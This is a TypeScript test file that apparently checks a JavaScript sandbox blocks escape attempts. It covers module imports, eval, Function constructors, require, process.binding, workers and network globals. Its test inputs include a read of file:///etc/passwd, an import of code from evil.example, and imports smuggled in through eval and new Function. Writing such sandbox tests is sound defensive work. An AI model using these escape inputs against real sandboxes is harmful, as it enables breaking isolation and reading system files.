import { attacks } from './attack.ts';

const imports = (title: string, expression: string) => ({
  title,
  code: `try { const m = await (${expression}); return Boolean(m); } catch { return false; }`,
});

attacks('modules', [
  imports('cannot import fs', `import('fs')`),
  imports('cannot import node:fs', `import('node:fs')`),
  imports('cannot import isolated-vm', `import('isolated-vm')`),
  imports('cannot import a data address', `import('data:text/javascript,export default 1')`),
  imports('cannot import a file address', `import('file:///etc/passwd')`),
  imports('cannot import an https address', `import('https://evil.example/x.js')`),
  imports('cannot import through a function made of text', `new Function('return import("node:fs")')()`),
  imports('cannot import through eval', `(0, eval)('import("node:fs")')`),
  imports('cannot import through a timer with text', `new Promise((ok, no) => { setTimeout('1'); })`),
  imports('has no require', `Promise.resolve(require('fs'))`),
  imports('has no process.binding', `Promise.resolve(process.binding('fs'))`),
  imports('has no process.getBuiltinModule', `Promise.resolve(globalThis.process.getBuiltinModule('fs'))`),
  imports('has no importScripts', `Promise.resolve(importScripts('x'))`),
  imports('has no Worker', `Promise.resolve(new Worker('x'))`),
  {
    title: 'has no global of Node, Deno or Bun',
    code: `return ['process', 'require', 'module', 'exports', '__filename', '__dirname', 'Buffer', 'global', 'Deno', 'Bun', 'fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'navigator', 'localStorage'].some((k) => k in globalThis);`,
  },
]);
